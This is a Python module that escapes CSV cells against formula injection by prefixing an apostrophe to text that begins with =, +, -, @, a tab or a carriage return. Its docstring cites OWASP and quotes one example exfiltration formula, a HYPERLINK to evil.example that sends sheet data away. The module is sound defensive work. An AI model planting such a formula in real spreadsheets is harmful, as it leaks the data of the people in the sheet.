"""Cells of the CSV files Touchline writes, made safe to open in a spreadsheet.

Customers type names and messages on public pages and in mail; staff open exports in Excel or
LibreOffice, which run a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula: ``=HYPERLINK("http://evil.example/?"&A1, "click")`` sends the
sheet's data away. Such a cell is written with a leading apostrophe, as OWASP advises ("CSV
injection"); a plain number (``-12.50``) is left alone, since no spreadsheet runs it.
"""

from __future__ import annotations

import re
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it, never run as a formula."""
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value
